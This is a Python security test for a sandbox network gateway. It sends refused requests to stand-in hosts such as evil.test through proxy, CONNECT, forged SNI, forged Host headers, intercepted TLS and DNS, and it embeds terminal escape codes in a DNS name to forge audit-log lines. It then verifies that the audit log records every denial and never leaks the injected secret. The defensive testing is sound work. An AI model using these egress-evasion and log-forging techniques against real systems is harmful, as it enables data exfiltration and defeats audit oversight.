"""Egress without a trace: one refused attempt through each door of the gateway (an
absolute-form URL, CONNECT, a forged SNI on the transparent TLS listener, a forged Host on the
transparent HTTP listener, a foreign Host inside intercepted TLS, a DNS query for a denied name),
one of them with terminal escapes and a newline in the name to forge or wipe lines of `space
audit`, and one allowed request that gets API_TOKEN injected; then reads the sandbox's audit
log from the host (`space audit --json` and the text form).
Blocked by: every refusal is an egress.denied event naming the door ("via"), the host and a
reason; the injection is a credential.use and an egress.request listing the secret's name; the
secret's value appears nowhere in the log (the config's value is read to check); the CLI
escapes control characters in the text form.
space-attack: sandbox=host-fresh opts=--secret,API_TOKEN timeout=60
"""
import json
import os

from hostside import SANDBOX, broken, escaped, finish, note, space

with open(os.environ["SPACE_DAEMON_CONFIG"]) as f:
    SECRET = json.load(f)["secrets"]["API_TOKEN"]["value"]
MARK = "aud" + os.urandom(4).hex()

INSIDE = r'''
import os, socket, ssl, sys
import requests
MARK = sys.argv[1]

def exchange(data, port=3128):
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    out = b""
    try:
        s.sendall(data)
        while True:
            b = s.recv(4096)
            if not b:
                break
            out += b
    except OSError:
        pass
    s.close()
    return out

def hello(sni):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, out, server_hostname=sni)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()

m = MARK.encode()
exchange(b"GET http://%s-proxy.evil.test/ HTTP/1.1\r\nHost: x\r\n\r\n" % m)
exchange(b"CONNECT %s-connect.evil.test:443 HTTP/1.1\r\n\r\n" % m)
exchange(hello(MARK + "-sni.evil.test"), port=443)
exchange(b"GET / HTTP/1.1\r\nHost: %s-host.evil.test\r\n\r\n" % m, port=80)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(2)
forged = b"\x1b[2J" + m + b"-dns\n2026-01-01T00:00:00Z forged"
u.sendto(b"\x11\x11\x01\x00\x00\x01\0\0\0\0\0\0" + bytes([len(forged)]) + forged +
         b"\x04evil\x04test\x00\x00\x01\x00\x01", ("127.0.0.53", 53))
u.recv(512)
ph = os.environ["API_TOKEN"]
s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
s.sendall(b"CONNECT api.example.test:443 HTTP/1.1\r\n\r\n")
s.recv(4096)
t = ssl.create_default_context(cafile="/etc/space/ca-bundle.crt").wrap_socket(
    s, server_hostname="api.example.test")
t.sendall(b"GET /echo HTTP/1.1\r\nHost: %s-intercept.evil.test\r\n\r\n" % m)
t.recv(4096)
r = requests.get("https://api.example.test/echo?m=" + MARK,
                 headers={"Authorization": "Bearer " + ph}, timeout=15)
print(r.status_code)
'''

rc, out, err = space("exec", SANDBOX, "--", "python3", "-c", INSIDE, MARK, timeout=50)
if rc != 0 or out.decode().strip() != "200":
    broken("the inside half failed (rc %d): %s %s" % (rc, out[-300:], err[-500:]))
rc, out, err = space("audit", SANDBOX, "--json")
if rc != 0:
    broken("space audit --json failed (rc %d): %s" % (rc, err[-300:]))
raw = out.decode("utf-8", "replace")
events = [json.loads(line) for line in raw.splitlines() if line.strip()]
if SECRET in raw:
    escaped("the secret's value is in the audit log")
denied = [e["data"] for e in events if e["kind"] == "egress.denied"]
for via, host in [("proxy", MARK + "-proxy.evil.test"), ("connect", MARK + "-connect.evil.test"),
                  ("transparent-tls", MARK + "-sni.evil.test"),
                  ("transparent-http", MARK + "-host.evil.test"),
                  ("intercept", "api.example.test")]:
    hit = [d for d in denied if d.get("via") == via and d.get("host") == host and d.get("reason")]
    if via == "intercept":
        hit = [d for d in hit if MARK + "-intercept" in d["reason"]]
    if not hit:
        escaped("no egress.denied for %s via %s" % (host, via))
    else:
        note("%s: %s" % (via, hit[-1]["reason"][:60]))
dns = [d for d in denied if d.get("via") == "dns" and MARK in d.get("host", "")]
if not dns:
    escaped("the DNS query for a denied name left no egress.denied")
uses = [e["data"] for e in events if e["kind"] == "credential.use"
        and e["data"].get("host") == "api.example.test"]
reqs = [e["data"] for e in events if e["kind"] == "egress.request"
        and e["data"].get("secrets") == ["API_TOKEN"]]
if not uses or not reqs:
    escaped("the injection left no credential.use / egress.request with the secret's name")
rc, out, err = space("audit", SANDBOX)
text = out.decode("utf-8", "replace")
if rc != 0:
    broken("space audit failed (rc %d)" % rc)
if SECRET in text:
    escaped("the secret's value is in `space audit`'s text")
if "\x1b" in text or "\n2026-01-01T00:00:00Z forged" in text:
    escaped("a DNS name put raw control characters into `space audit`'s text")
note("dns: %s; credential.use and egress.request recorded" % dns[-1].get("reason", "")[:40]
     if dns else "")
finish()
